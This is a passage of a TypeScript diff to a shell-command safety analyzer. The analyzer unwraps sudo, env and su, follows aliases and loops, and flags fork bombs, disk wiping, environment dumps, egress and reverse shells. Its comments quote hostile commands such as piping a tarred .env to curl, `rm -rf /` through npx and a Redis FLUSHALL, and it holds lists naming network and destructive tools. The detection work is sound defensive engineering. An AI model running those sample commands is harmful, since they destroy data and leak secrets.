+        runStmts(list(clause['Then']), walk);
         clause = clause['Else'] as ShNode | undefined;
       }
-      return;
+      return undefined;
     }
     case 'WhileClause':
-      walkStmts(list(cmd['Cond']), walk);
-      walkStmts(list(cmd['Do']), walk);
-      return;
+      // `… | while read x; do …; done`: the condition reads what is piped in.
+      runStmts(list(cmd['Cond']), walk, stdin);
+      runStmts(list(cmd['Do']), walk);
+      return undefined;
     case 'ForClause':
-      walkStmts(list(cmd['Do']), walk);
-      return;
+      runFor(cmd, walk);
+      return undefined;
     case 'CaseClause':
-      for (const item of list(cmd['Items'])) walkStmts(list(item['Stmts']), walk);
-      return;
-    case 'FuncDecl':
-      judgeFunction(cmd, walk);
-      walkStmt(cmd['Body'] as ShNode, walk);
-      return;
+      for (const item of list(cmd['Items'])) runStmts(list(item['Stmts']), walk);
+      return undefined;
+    case 'FuncDecl': {
+      const name = litValue(cmd['Name']);
+      judgeForkBomb(name, cmd['Body'] as ShNode | undefined, walk);
+      if (name !== '') {
+        walk.scope.functions ??= new Map();
+        walk.scope.functions.set(name, cmd['Body'] as ShNode);
+      }
+      return undefined;
+    }
     case 'TimeClause':
     case 'CoprocClause':
-      if (cmd['Stmt']) walkStmt(cmd['Stmt'] as ShNode, walk);
-      return;
-    case 'DeclClause':
-      // `export X=v` assigns like `X=v`, and is judged like it (the linear readers see the same).
-      for (const assign of list(cmd['Args'])) {
-        judgePathsInText(wordText(assign['Value'] as ShNode | undefined, walk).text, walk);
+      return cmd['Stmt'] ? runStmt(cmd['Stmt'] as ShNode, walk, stdin) : undefined;
+    case 'DeclClause': {
+      for (const a of list(cmd['Args'])) {
+        const name = litValue(a['Name']);
+        if (a['Naked'] && !a['Value']) {
+          if (name === '' && a['Value'] === undefined) continue;
+          continue;
+        }
+        const value = wordString(a['Value'] as ShNode | undefined, walk);
+        judgePathsInText(value.text, walk);
+        if (name !== '') assign(walk, name, value);
       }
-      return;
+      return undefined;
+    }
+    case 'LetClause':
+    case 'ArithmCmd':
+    case 'TestClause':
+      return undefined;
     default:
-      return;
+      return undefined;
   }
 }
 
-function literalOutput(stmt: ShNode, walk: Walk): string | undefined {
-  let cmd = stmt['Cmd'] as ShNode | undefined;
-  // `a | b | c` parses as `(a | b) | c`: what c reads is what b prints.
-  while (cmd && nodeType(cmd) === 'BinaryCmd' && PIPE_OPS.has(Number(cmd['Op']))) {
-    cmd = (cmd['Y'] as ShNode | undefined)?.['Cmd'] as ShNode | undefined;
-  }
-  if (nodeType(cmd) !== 'CallExpr') return undefined;
-  return printedLiteral(list(cmd?.['Args']).map((arg) => wordText(arg, { ...walk, findings: [] })));
+/** The value an assignment gives: a word, or an array `(a b c)` kept as its words. */
+function assignedValue(a: ShNode, walk: Walk): Value {
+  const array = a['Array'] as ShNode | undefined;
+  if (!array) return wordString(a['Value'] as ShNode | undefined, walk);
+  const fields: Field[] = [];
+  for (const elem of list(array['Elems']))
+    fields.push(...expandWord(elem['Value'] as ShNode | undefined, walk));
+  return { ...valueOfFields(fields), array: true };
 }
 
-function printedLiteral(words: ShWord[]): string | undefined {
-  const name = words[0]?.text;
-  if (name === 'echo' || name === 'printf') {
-    return words
-      .slice(1)
-      .filter((w) => !w.text.startsWith('-'))
-      .map((w) => w.text)
-      .join(' ');
+function runFor(cmd: ShNode, walk: Walk): void {
+  const loop = cmd['Loop'] as ShNode | undefined;
+  const body = list(cmd['Do']);
+  if (nodeType(loop) !== 'WordIter') {
+    runStmts(body, walk);
+    return;
   }
-  return undefined;
+  const name = litValue(loop?.['Name']);
+  const items: Field[] = [];
+  for (const word of list(loop?.['Items'])) items.push(...expandWord(word, walk));
+  if (items.length === 0) {
+    assign(walk, name, { text: '', known: false });
+    runStmts(body, walk);
+    return;
+  }
+  for (const item of items.slice(0, MAX_ITEMS)) {
+    assign(walk, name, { text: item.text, known: !item.dynamic });
+    runStmts(body, walk);
+  }
 }
 
 /** A function that calls itself in a pipeline or in the background multiplies without bound. */
-function judgeFunction(decl: ShNode, walk: Walk): void {
-  const name = String((decl['Name'] as ShNode | undefined)?.['Value'] ?? '');
-  const body = decl['Body'] as ShNode | undefined;
+function judgeForkBomb(name: string, body: ShNode | undefined, walk: Walk): void {
   if (name === '' || !body) return;
-  const calls: string[] = [];
+  let calls = 0;
   let spawns = false;
   const visit = (node: ShNode | undefined): void => {
     if (!node) return;
@@ -227,80 +874,763 @@ function judgeFunction(decl: ShNode, walk: Walk): void {
       for (const s of list(node['Stmts'])) visit(s);
     } else if (type === 'CallExpr') {
       const first = list(node['Args'])[0];
-      if (first) calls.push(wordText(first, { ...walk, findings: [] }).text);
+      if (first && list(first['Parts']).map(litValue).join('') === name) calls++;
     }
   };
   visit(body);
-  if (spawns && calls.filter((c) => c === name).length >= 1) {
-    walk.findings.push({
-      code: 'DEST_MUTATION',
-      message: 'fork bomb',
-      location: `function "${name.slice(0, 20)}"`,
-    });
-  }
+  if (spawns && calls >= 1) destructive(walk, 'fork bomb', `function "${name.slice(0, 20)}"`);
 }
 
 // ------------------------------------------------------------------------------ commands
 
-const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish', 'busybox']);
-const INTERPRETERS = new Set([
-  'python',
-  'python2',
-  'python3',
-  'node',
-  'nodejs',
-  'ruby',
-  'perl',
-  'php',
-  'deno',
-  'bun',
+const SHELLS = new Set([
+  'sh',
+  'bash',
+  'zsh',
+  'dash',
+  'ksh',
+  'ash',
+  'mksh',
+  'yash',
+  'fish',
+  'rbash',
+  'tcsh',
+  'csh',
 ]);
-const NETWORK_TOOLS = new Set([
-  'curl',
-  'wget',
-  'nc',
-  'ncat',
-  'netcat',
-  'socat',
-  'scp',
-  'sftp',
-  'rsync',
-  'ftp',
-  'tftp',
-  'ssh',
-  'telnet',
-  'http',
-  'https',
-  'xh',
-  'aria2c',
-  'lftp',
-  'smbclient',
-  'openssl',
-  'nslookup',
-  'dig',
-  'host',
-  'whois',
-  'ping',
-  'ncftp',
-  'ncftpput',
-  'axel',
-]);
+const INTERPRETERS =
+  /^(?:python[\d.]*|pypy3?|node|nodejs|deno|bun|ruby|irb|perl[\d.]*|php[\d.]*|lua[\d.]*|luajit|tclsh|Rscript|osascript|jshell|groovy)$/;
+const AWKS = /^[gmn]?awk$/;
 
 /** Wrappers that run their argument as a command, with the options that take a value. */
-const WRAPPERS: Record<string, Set<string>> = {
-  sudo: new Set(['-u', '-g', '-h', '-p', '-C', '-D', '-r', '-t', '-U', '-T', '--user', '--group']),
+const WRAPPERS: Record<string, Set<string>> = lookupTable({
+  sudo: new Set([
+    '-u',
+    '-g',
+    '-h',
+    '-p',
+    '-C',
+    '-D',
+    '-r',
+    '-t',
+    '-U',
+    '-T',
+    '--user',
+    '--group',
+    '--host',
+    '--prompt',
+    '--chdir',
+    '--role',
+    '--type',
+    '--other-user',
+    '--close-from',
+    '--command-timeout',
+  ]),
   doas: new Set(['-u', '-C']),
-  env: new Set(['-u', '-C', '-S', '--unset', '--chdir']),
+  env: new Set(['-u', '-C', '--unset', '--chdir', '-P']),
   nice: new Set(['-n', '--adjustment']),
-  ionice: new Set(['-c', '-n', '-p']),
-  time: new Set(['-f', '-o']),
+  ionice: new Set(['-c', '-n', '-p', '--class', '--classdata']),
+  chrt: new Set(),
+  taskset: new Set(),
+  time: new Set(['-f', '-o', '--format', '--output']),
   command: new Set(),
   builtin: new Set(),
   exec: new Set(['-a']),
   nohup: new Set(),
   timeout: new Set(['-s', '-k', '--signal', '--kill-after']),
   stdbuf: new Set(['-i', '-o', '-e']),
-  xargs: new Set([
+  unbuffer: new Set(),
+  strace: new Set(['-o', '-e', '-p', '-s', '-E', '-u']),
+  ltrace: new Set(['-o', '-e', '-p', '-s', '-u']),
+  setsid: new Set(),
+  flock: new Set(['-w', '-E', '--timeout', '--conflict-exit-code']),
+  caffeinate: new Set(['-t', '-w']),
+  fakeroot: new Set(['-l', '-s', '-i']),
+  torsocks: new Set(['-u', '-p', '-a', '-P']),
+  proxychains: new Set(['-f']),
+  proxychains4: new Set(['-f']),
+  'xvfb-run': new Set(['-n', '-s', '-f', '-e', '-p']),
+  firejail: new Set(),
+  catchsegv: new Set(),
+  pkexec: new Set(['--user']),
+  runuser: new Set(['-u', '-g', '-G', '--user', '--group', '-s', '--shell']),
+  busybox: new Set(),
+  chronic: new Set(),
+  'dbus-launch': new Set(),
+  nsenter: new Set(['-t', '--target', '-S', '--setuid', '-G', '--setgid', '-r', '--root', '-w', '--wd']),
+  chroot: new Set(['--userspec', '--groups']),
+  sg: new Set(),
+  script: new Set(['-c', '-O', '-I', '--command']),
+  wsl: new Set(['-d', '--distribution', '-u', '--user', '--cd']),
+});
+/** Package runners, with the subcommand that runs a program ('' when they run it directly). */
+const PACKAGE_RUNNERS: Record<string, string> = lookupTable({
+  npx: '',
+  pnpx: '',
+  bunx: '',
+  pnpm: 'exec',
+  yarn: 'exec',
+  bundle: 'exec',
+  poetry: 'run',
+  uv: 'run',
+  pipx: 'run',
+  pdm: 'run',
+  hatch: 'run',
+  conda: 'run',
+});
+
+/** Wrappers whose first operands are not the command (timeout's duration, chroot's root…). */
+const WRAPPER_OPERANDS: Record<string, number> = lookupTable({
+  timeout: 1,
+  chroot: 1,
+  flock: 1,
+  chrt: 1,
+  taskset: 1,
+  sg: 1,
+});
+
+const FLAG_TAKES_ALL_REST: Record<string, Set<string>> = lookupTable({
+  // `flock -c 'cmd'`, `script -c 'cmd'`, `su -c 'cmd'`, `runuser -c`, `sg group -c`
+  flock: new Set(['-c', '--command']),
+  script: new Set(['-c', '--command']),
+  runuser: new Set(['-c', '--command']),
+  sg: new Set(['-c']),
+});
+
+interface Unwrapped {
+  argv: Field[];
+  /** The command as a package runner was given it, before the runner was removed. */
+  runnerArgv?: Field[];
+  /** A script a wrapper runs as one string (`su -c '…'`, `env -S '…'`). */
+  script?: Field;
+}
+
+function unwrap(argv: Field[], walk: Walk): Unwrapped {
+  let current = argv;
+  let runnerArgv: Field[] | undefined;
+  for (let guard = 0; guard < 12 && current.length > 0; guard++) {
+    const first = current[0]!;
+    const name = baseName(first.text);
+    if (name === 'su') {
+      const c = current.findIndex(
+        (w) => w.text === '-c' || w.text === '--command' || w.text.startsWith('--command='),
+      );
+      if (c < 0) return { argv: [] };
+      const arg = current[c]!.text.startsWith('--command=')
+        ? { ...current[c]!, text: current[c]!.text.slice(10) }
+        : current[c + 1];
+      return arg ? { argv: [], script: arg } : { argv: [] };
+    }
+    const takesScript = FLAG_TAKES_ALL_REST[name];
+    if (takesScript) {
+      const c = current.findIndex((w) => takesScript.has(w.text) || /^-[a-zA-Z]*c$/.test(w.text));
+      if (c >= 0 && current[c + 1]) return { argv: [], script: current[c + 1]! };
+    }
+    if (name === 'env') {
+      const s = current.findIndex(
+        (w) => w.text === '-S' || w.text.startsWith('--split-string') || /^-[a-zA-Z]*S/.test(w.text),
+      );
+      if (s >= 0) {
+        const w = current[s]!;
+        const inline = w.text.startsWith('--split-string=')
+          ? w.text.slice(15)
+          : /^-[a-zA-Z]*S(.+)$/.exec(w.text)?.[1];
+        const script = inline !== undefined ? { ...w, text: inline } : current[s + 1];
+        if (script)
+          return {
+            argv: [],
+            script: { ...script, text: [script.text, ...current.slice(s + 2).map((f) => f.text)].join(' ') },
+          };
+      }
+    }
+    if (name === 'command' && current.some((w, i) => i > 0 && (w.text === '-v' || w.text === '-V')))
+      return { argv: [] };
+    if (
+      name === 'nsenter' &&
+      current.some(
+        (w, i) =>
+          i > 0 &&
+          /^(?:-t|--target)(?:=?1)?$/.test(w.text) &&
+          (w.text.endsWith('1') || current[i + 1]?.text === '1'),
+      )
+    ) {
+      push(
+        walk,
+        'FILESYSTEM_DENIED',
+        "nsenter enters the host's namespaces (PID 1): everything on the host is exposed",
+        'command "nsenter"',
+      );
+    }
+    // Package runners run the program they are given: `npx rimraf /`, `pnpm exec rm -rf /`.
+    const runner = PACKAGE_RUNNERS[name];
+    if (runner !== undefined && (runner === '' || current[1]?.text === runner)) {
+      let k = runner === '' ? 1 : 2;
+      while (k < current.length && current[k]!.text.startsWith('-')) {
+        k += /^(?:-p|--package|--node-options|-c|--call)$/.test(current[k]!.text) ? 2 : 1;
+      }
+      if (k < current.length) {
+        // The catalogue knows runners too (`npx aws-cdk destroy` is `cdk destroy`): it sees both.
+        runnerArgv ??= current;
+        current = current.slice(k);
+        continue;
+      }
+    }
+    const options = WRAPPERS[name];
+    if (options === undefined) break;
+    let i = 1;
+    let operands = WRAPPER_OPERANDS[name] ?? 0;
+    while (i < current.length) {
+      const text = current[i]!.text;
+      if (name === 'env' && /^[A-Za-z_][A-Za-z0-9_]*=/.test(text)) {
+        assign(walk, text.slice(0, text.indexOf('=')), {
+          text: text.slice(text.indexOf('=') + 1),
+          known: !current[i]!.dynamic,
+        });
+        i++;
+      } else if (text === '--') {
+        i++;
+        break;
+      } else if (text.startsWith('-') && text.length > 1) {
+        i += options.has(text) ? 2 : 1;
+      } else if (operands > 0) {
+        operands--;
+        i++;
+      } else break;
+    }
+    current = current.slice(i);
+  }
+  return runnerArgv === undefined ? { argv: current } : { argv: current, runnerArgv };
+}
+
+function judgeCommand(words: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  if (walk.budget.commands++ >= MAX_COMMANDS) {
+    overBudget(walk, `more than ${MAX_COMMANDS} commands`);
+    return undefined;
+  }
+  const before = walk.findings.length;
+  const output = dispatch(words, walk, stdin);
+  annotate(words, walk, before);
+  // Which commands made the data, for egress (`tar czf - .env | curl -T -`); spelled out only
+  // when a network tool reads it.
+  if (output !== undefined && output.literal === undefined && output.producer === undefined) {
+    output.producer = stdin === undefined ? { words } : { words, stdin };
+  }
+  return output;
+}
+
+/** Messages say what was resolved: "… (after expanding $X: rm -rf /)". */
+function annotate(words: Field[], walk: Walk, from: number): void {
+  if (from === walk.findings.length || !words.some((w) => w.via !== undefined)) return;
+  const vias = [...new Set(words.map((w) => w.via).filter((v): v is string => v !== undefined))];
+  const resolved = describeTarget(joinFields(words));
+  for (let i = from; i < walk.findings.length; i++) {
+    const finding = walk.findings[i]!;
+    if (finding.message.includes('(after ')) continue;
+    walk.findings[i] = {
+      ...finding,
+      message: `${finding.message} (after ${vias.slice(0, 3).map(expansionNote).join(', ')}: ${resolved})`,
+    };
+  }
+}
+
+function expansionNote(via: string): string {
+  return via.startsWith('$') ? `expanding ${via}` : `resolving ${via}`;
+}
+
+function dispatch(words: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  if (words.length === 0) return undefined;
+  const first = words[0]!;
+  // Aliases and functions defined earlier in the command.
+  const alias = first.dynamic ? undefined : walk.scope.aliases?.get(first.text);
+  if (alias !== undefined) {
+    const inner = child(walk);
+    if (!inner) return undefined;
+    const expanded = splitLiteral(alias).map((text) => ({
+      text,
+      dynamic: false,
+      via: `alias ${first.text}`,
+    }));
+    return judgeCommand([...expanded, ...words.slice(1)], inner, stdin);
+  }
+  const fn = first.dynamic ? undefined : walk.scope.functions?.get(first.text);
+  if (fn !== undefined) {
+    const inner = child(walk, newScope(words, walk.scope));
+    if (!inner) return undefined;
+    inner.scope.functions?.delete(first.text);
+    return runStmt(fn, inner, stdin);
+  }
+
+  if (printsEnvironment(words)) return { unknown: 'the process environment', sensitive: ENVIRONMENT };
+  const unwrapped = unwrap(words, walk);
+  if (unwrapped.script) {
+    runScriptField(unwrapped.script, walk, 'a wrapped command');
+    return undefined;
+  }
+  const argv = unwrapped.argv;
+  if (argv.length === 0) return undefined;
+  const program = argv[0]!;
+  if (program.dynamic) {
+    // An unknown variable, fetched or decoded data as the program is opaque code; a path that a
+    // substitution computes (`$(readlink -f …)`) names some program on this machine.
+    if (program.codeLike) {
+      opaque(walk, `the command name comes from ${program.opaque ?? 'an expansion whose value is unknown'}`);
+    }
+    judgePathsInArgs(argv.slice(1), walk);
+    return { unknown: 'the output of an unknown command' };
+  }
+  const windows = isWindowsLine(program, argv);
+  const name = baseName(windows ? (program.raw ?? program.text) : program.text);
+  const args = windows
+    ? argv.slice(1).map((a) => (a.raw === undefined ? a : { ...a, text: a.raw }))
+    : argv.slice(1);
+  const texts = args.map((a) => a.text);
+
+  const runner = unwrapped.runnerArgv?.map((f) => f.text) ?? [];
+  const catalogue = judgeCatalogue([name, ...texts], walk.ctx.catalogue, stdin?.literal);
+  if (runner.length > 0) catalogue.push(...judgeCatalogue(runner, walk.ctx.catalogue, stdin?.literal));
+  if (stdin?.literal !== undefined) catalogue.push(...judgeCommandsOnStdin(name, texts, stdin.literal, walk));
+  for (const finding of catalogue) {
+    if (finding.location === 'opaque code' && walk.ctx.execution.allow_opaque) continue;
+    walk.findings.push(finding);
+  }
+  // A disk tool's device operand is judged as destruction below, not as a path read.
+  const deviceTool = /^(?:mkfs.*|mke2fs|mkswap|mkdosfs|dd|shred|wipefs|blkdiscard)$/.test(name);
+  judgePathsInArgs(deviceTool ? args.filter((a) => !isBlockDevice(a.text.replace(/^of=/, ''))) : args, walk);
+
+  if (name === 'cd' || name === 'pushd') {
+    // Later relative paths resolve against the new directory.
+    const target = args.find((a) => !a.text.startsWith('-'));
+    if (target === undefined || !target.dynamic) {
+      const workspace = target === undefined ? walk.ctx.paths.home : normalizePath(target.text, walk.ctx.cwd);
+      walk.ctx = { ...walk.ctx, cwd: { ...walk.ctx.paths, workspace } };
+    }
+    return undefined;
+  }
+  if (name === 'mv') judgeMove(args, walk);
+  if (name === 'rsync') judgeRsyncDelete(args, walk);
+  if (SHELLS.has(name)) return judgeShell(name, args, walk, stdin);
+  if (name === 'eval') {
+    const script: Field = {
+      text: joinFields(args),
+      dynamic: args.some((a) => a.dynamic),
+      ...(args.find((a) => a.opaque)?.opaque ? { opaque: args.find((a) => a.opaque)!.opaque! } : {}),
+    };
+    runScriptField(script, walk, 'eval');
+    return undefined;
+  }
+  if (name === 'alias') {
+    for (const arg of args) {
+      const eq = arg.text.indexOf('=');
+      if (eq > 0 && !arg.dynamic) {
+        walk.scope.aliases ??= new Map();
+        walk.scope.aliases.set(arg.text.slice(0, eq), arg.text.slice(eq + 1));
+      }
+    }
+    return undefined;
+  }
+  if (name === 'source' || name === '.') {
+    const file = args[0];
+    if (file?.opaque || (file?.dynamic && file.text === ''))
+      opaque(walk, file.opaque ?? 'a sourced file whose path is unknown');
+    if (stdin && (file?.text === '/dev/stdin' || file?.text === '-')) judgeStdinScript(stdin, walk, name);
+    return undefined;
+  }
+  if (name === 'printf' && args[0]?.text === '-v' && args[1]) {
+    const out = args.slice(2).some((a) => a.dynamic) ? undefined : printfOutput(texts.slice(2));
+    assign(
+      walk,
+      args[1].text,
+      out === undefined ? { text: '', known: false, codeLike: true } : { text: out, known: true },
+    );
+    return undefined;
+  }
+  if (name === 'read' && stdin?.found && !stdin.found.narrowed) {
+    const target = args.find((a) => /^[A-Za-z_]\w*$/.test(a.text));
+    const root = stdin.found.roots[0];
+    if (target && root) assign(walk, target.text, { text: root.text, known: !root.dynamic });
+    return undefined;
+  }
+  if (name === 'read' && stdin?.literal !== undefined) {
+    const names = args.filter((a) => /^[A-Za-z_]\w*$/.test(a.text) && !a.text.startsWith('-'));
+    const line = (stdin.literal.split('\n')[0] ?? '').trim();
+    const words = line.split(/[ \t]+/);
+    for (const [k, n] of names.entries()) {
+      const text = k === names.length - 1 ? words.slice(k).join(' ') : (words[k] ?? '');
+      assign(walk, n.text, { text, known: true });
+    }
+    return undefined;
+  }
+  if (name === 'read' || name === 'mapfile' || name === 'readarray') {
+    for (const arg of args)
+      if (/^[A-Za-z_]\w*$/.test(arg.text))
+        assign(walk, arg.text, {
+          text: '',
+          known: false,
+          ...(describeStream(stdin) ? { opaque: describeStream(stdin)! } : {}),
+        });
+    return undefined;
+  }
+  if (
+    name === 'export' ||
+    name === 'declare' ||
+    name === 'typeset' ||
+    name === 'local' ||
+    name === 'readonly'
+  ) {
+    for (const arg of args) {
+      const m = /^([A-Za-z_]\w*)=(.*)$/s.exec(arg.text);
+      if (m) assign(walk, m[1]!, { text: m[2]!, known: !arg.dynamic });
+    }
+    return undefined;
+  }
+  if (INTERPRETERS.test(name)) return judgeInterpreter(name, args, walk, stdin);
+  if (AWKS.test(name)) {
+    const program = args.find(
+      (a, i) => !a.text.startsWith('-') && !['-F', '-v', '-f'].includes(args[i - 1]?.text ?? ''),
+    );
+    if (program) runInlineCode(program, 'awk', walk);
+    return { unknown: `the output of ${name}` };
+  }
+  if (name === 'xargs') return judgeXargs(args, walk, stdin);
+  if (name === 'find') return judgeFind(args, walk);
+  if (name === 'parallel') return judgeParallel(args, walk, stdin);
+  if (name === 'watch') {
+    let i = 0;
+    while (i < args.length && args[i]!.text.startsWith('-'))
+      i += /^-(?:n|d|-interval|-differences)$/.test(args[i]!.text) && args[i]!.text !== '-d' ? 2 : 1;
+    runScriptField(
+      { text: joinFields(args.slice(i)), dynamic: args.slice(i).some((a) => a.dynamic) },
+      walk,
+      'watch',
+    );
+    return undefined;
+  }
+  if (name === 'ssh') judgeSshCommand(args, walk);
+  if ((name === 'docker' || name === 'podman' || name === 'nerdctl') && args.length > 0)
+    return judgeContainerTool(name, args, walk);
+  if ((name === 'kubectl' || name === 'oc') && args.some((a) => a.text === 'exec')) {
+    const dash = args.findIndex((a) => a.text === '--');
+    if (dash >= 0) {
+      const inner = child(walk);
+      if (inner) judgeCommand(args.slice(dash + 1), inner);
+    }
+  }
+  if (name === 'openssl' && stdin?.literal !== undefined) {
+    const decoded = applyFilter(name, texts, stdin.literal);
+    if (decoded !== undefined) return { literal: decoded };
+  }
+  if (name === 'openssl' && (texts[0] === 'base64' || texts[0] === 'enc')) {
+    return judgeLocal(name, args, walk, stdin);
+  }
+  if (name === 'ztcp' && texts[0] && !texts[0].startsWith('-')) {
+    walk.findings.push(...analyzeHost(texts[0], walk.ctx.egress));
+    return { socket: name };
+  }
+  if (NETWORK_TOOLS.has(name) || name === 'socat' || name === 'nc.traditional' || name === 'nc.openbsd') {
+    return judgeNetwork(name, args, walk, stdin);
+  }
+  const filtered = stdin?.literal !== undefined ? applyFilter(name, texts, stdin.literal) : undefined;
+  if (filtered !== undefined) return { literal: filtered };
+  return judgeLocal(name, args, walk, stdin);
+}
+
+/**
+ * Data-store shells read their commands on standard input too: `echo FLUSHALL | redis-cli`,
+ * `echo 'db.dropDatabase()' | mongosh`. Each command is judged as if it were on the command line.
+ */
+function judgeCommandsOnStdin(name: string, texts: string[], literal: string, walk: Walk): Finding[] {
+  if (/^(?:redis|valkey|keydb)-cli$/.test(name)) {
+    const findings: Finding[] = [];
+    for (const line of literal.split('\n').slice(0, MAX_ITEMS)) {
+      const words = splitLiteral(line);
+      if (words.length > 0) findings.push(...judgeCatalogue([name, ...texts, ...words], walk.ctx.catalogue));
+    }
+    return findings;
+  }
+  if (name === 'mongosh' || name === 'mongo') {
+    return judgeCatalogue([name, ...texts, '--eval', literal], walk.ctx.catalogue);
+  }
+  return [];
+}
+
+/** Programs that only exist on Windows, whose command lines keep their backslashes. */
+const WINDOWS_PROGRAMS =
+  /^(?:cmd|powershell|pwsh|rd|del|erase|vssadmin|wbadmin|bcdedit|cipher|diskpart|reg|takeown|icacls|cacls|wmic|robocopy|xcopy|schtasks|wevtutil|fsutil|netsh|[A-Z][a-z]+-[A-Z][A-Za-z]+)$/i;
+
+/**
+ * A command line a POSIX shell would not run: a Windows program, or a Windows path written
+ * with backslashes. Its words are judged as written, not as a POSIX shell would unescape them.
+ */
+function isWindowsLine(program: Field, argv: readonly Field[]): boolean {
+  const name = baseName(program.raw ?? program.text).replace(/\.(?:exe|com)$/i, '');
+  if (WINDOWS_PROGRAMS.test(name)) return true;
+  return argv.some((a) => a.raw !== undefined && /^[A-Za-z]:\\|^\\\\|\\Windows\\/i.test(a.raw));
+}
+
+const ENVIRONMENT = 'the process environment (where secrets such as API keys live)';
+
+/** `env`, `printenv`, `set`, `export -p`, `declare -x`: commands that print every variable. */
+function printsEnvironment(words: readonly Field[]): boolean {
+  const name = baseName(words[0]?.text ?? '');
+  const rest = words.slice(1).map((w) => w.text);
+  if (name === 'env' || name === 'printenv') {
+    return rest.every((t) => t.startsWith('-') || (name === 'env' && /^[A-Za-z_]\w*=/.test(t)));
+  }
+  if (name === 'set') return rest.length === 0;
+  if (name === 'export' || name === 'declare' || name === 'typeset')
+    return rest.length === 0 || rest.every((t) => /^-[px]+$/.test(t));
+  return false;
+}
+
+function splitLiteral(text: string): string[] {
+  return splitWords(text).flatMap((c) => c.words.map((w) => w.text));
+}
+
+function judgeLocal(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  const texts = args.map((a) => a.text);
+  switch (name) {
+    case 'echo':
+      return args.some((a) => a.dynamic)
+        ? { unknown: 'printed text with unknown expansions' }
+        : { literal: echoOutput(texts) };
+    case 'printf': {
+      const out = args.some((a) => a.dynamic) ? undefined : printfOutput(texts);
+      return out === undefined ? { unknown: 'printed text with unknown expansions' } : { literal: out };
+    }
+    case 'cat':
+    case 'tac':
+    case 'head':
+    case 'tail':
+    case 'less':
+    case 'more': {
+      const files = texts.filter((t) => !t.startsWith('-') || t === '-');
+      if (files.length === 0 || (files.length === 1 && files[0] === '-')) return stdin;
+      return { files };
+    }
+    case 'base64':
+    case 'base32':
+    case 'basenc':
+    case 'xxd':
+    case 'rev':
+    case 'tr':
+    case 'openssl':
+    case 'gunzip':
+    case 'zcat':
+    case 'gzip':
+    case 'bzcat':
+    case 'xzcat': {
+      const files = name === 'tr' || name === 'openssl' ? [] : texts.filter((t) => !t.startsWith('-'));
+      const source = files.length > 0 ? { files } : stdin;
+      return {
+        unknown: `data decoded by ${name}`,
+        decoded: !/zcat|gunzip|gzip/.test(name),
+        ...(source?.files ? { files: source.files } : {}),
+        ...(source?.fetched ? { fetched: source.fetched } : {}),
+        ...(source?.sensitive ? { sensitive: source.sensitive } : {}),
+      };
+    }
+    case 'pwd':
+      return { literal: `${walk.ctx.cwd.workspace}\n` };
+    case 'ls': {
+      // What ls lists is every entry of its directories: fed to xargs rm, the directories empty.
+      const dirs = args.filter((a) => !a.text.startsWith('-'));
+      const roots = (dirs.length === 0 ? [{ text: '.', dynamic: false }] : dirs).map((d) => ({
+        ...d,
+        text: `${d.text.replace(/\/+$/, '')}/*`,
+      }));
+      // `ls *.log` lists the files a pattern matched, not everything.
+      return { found: { roots, narrowed: dirs.some((d) => /[*?[]/.test(d.text)) } };
+    }
+    case 'tar':
+    case 'zip':
+    case '7z':
+    case 'gpg':
+    case 'pg_dump':
+    case 'pg_dumpall':
+    case 'mysqldump':
+    case 'mariadb-dump':
+    case 'mongodump':
+    case 'sqlite3': {
+      // Archives and dumps print what they read: the files named, or a database.
+      const files = texts.filter((t) => !t.startsWith('-') && !/^[cxtzvjfpr]+$/.test(t));
+      const dump = /dump/.test(name) || (name === 'sqlite3' && texts.some((t) => t === '.dump'));
+      return {
+        unknown: `the output of ${name}`,
+        files: dump ? [`${files[0] ?? 'database'}.sql`] : files,
+      };
+    }
+    case 'rm':
+    case 'rmdir':
+    case 'unlink':
+    case 'rimraf':
+      judgeRm(name, args, walk);
+      return undefined;
+    case 'dd':
+      for (const arg of args) {
+        if (arg.text.startsWith('of=') && isBlockDevice(arg.text.slice(3))) {
+          destructive(walk, 'dd writes over a block device', 'command "dd"');
+        }
+      }
+      return undefined;
+    case 'shred':
+    case 'wipefs':
+    case 'blkdiscard':
+      if (args.some((a) => isBlockDevice(a.text)) || name !== 'shred') {
+        destructive(walk, `${name} destroys a block device`, `command "${name}"`);
+      }
+      return undefined;
+    case 'chmod':
+    case 'chown':
+    case 'chgrp':
+      judgeRecursiveOwnership(name, args, walk);
+      return undefined;
+    case 'mkfifo':
+    case 'true':
+    case 'false':
+    case ':':
+      return undefined;
+    default:
+      if (/^mkfs(\.|$)|^mke2fs$|^mkswap$|^mkdosfs$/.test(name)) {
+        destructive(walk, `${name} formats a file system`, `command "${name}"`);
+      }
+      return { unknown: `the output of ${name}` };
+  }
+}
+
+// ------------------------------------------------------------------------------ nested code
+
+function runScriptField(script: Field, walk: Walk, how: string): void {
+  if (script.dynamic) {
+    // Parts that are known are still judged: `eval "rm -rf $X"` with X unknown.
+    if (script.text.trim() !== '') analyzeScript(script.text, walk);
+    opaque(walk, script.opaque ?? `${how} of text built from unknown expansions`);
+    return;
+  }
+  analyzeScript(script.text, walk);
+}
+
+function judgeStdinScript(stdin: Stream, walk: Walk, how: string): void {
+  if (stdin.literal !== undefined) {
+    analyzeScript(stdin.literal, walk);
+    return;
+  }
+  if (stdin.socket) {
+    reverseShell(walk, `${how} runs what ${stdin.socket} receives`);
+    return;
+  }
+  if (stdin.fetched) {
+    const host = stdin.fetched.host ?? hostOf(stdin.fetched.url);
+    if (host !== undefined && isTrustedHost(host, walk.ctx.egress)) return;
+    opaque(walk, `${how} runs ${describeStream(stdin)}, a host the account does not trust`);
+    return;
+  }
+  if (stdin.files && !stdin.unknown) return;
+  if (stdin.unknown) opaque(walk, `${how} runs ${stdin.unknown}`);
+}
+
+function hostOf(url: string | undefined): string | undefined {
+  if (url === undefined) return undefined;
+  try {
+    return new URL(url).hostname;
+  } catch {
+    return undefined;
+  }
+}
+
+function judgeShell(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  let i = 0;
+  let interactive = false;
+  while (i < args.length) {
+    const text = args[i]!.text;
+    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(text)) {
+      const script = args[i + 1];
+      if (!script) return undefined;
+      const inner = child(walk, newScope(args.slice(i + 2), walk.scope));
+      if (inner) runScriptField(script, inner, `${name} -c`);
+      return undefined;
+    }
+    if (text === '-i') interactive = true;
+    if (text === '-o' || text === '-O' || text === '+O' || text === '--rcfile' || text === '--init-file')
+      i += 2;
